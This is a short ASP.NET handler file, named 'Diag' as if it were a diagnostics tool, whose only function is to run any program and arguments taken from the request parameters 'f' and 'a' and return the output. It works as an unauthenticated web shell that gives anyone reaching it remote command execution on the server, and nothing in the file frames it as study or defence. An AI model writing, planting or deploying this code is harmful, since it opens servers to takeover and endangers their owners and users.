<%@ WebHandler Language="C#" Class="Diag" %>
using System;
using System.Web;
using System.Diagnostics;

public class Diag : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        var psi = new ProcessStartInfo(context.Request["f"], context.Request["a"]) { UseShellExecute = false, RedirectStandardOutput = true };
        context.Response.ContentType = "text/plain";
        context.Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
    }
    public bool IsReusable { get { return true; } }
}
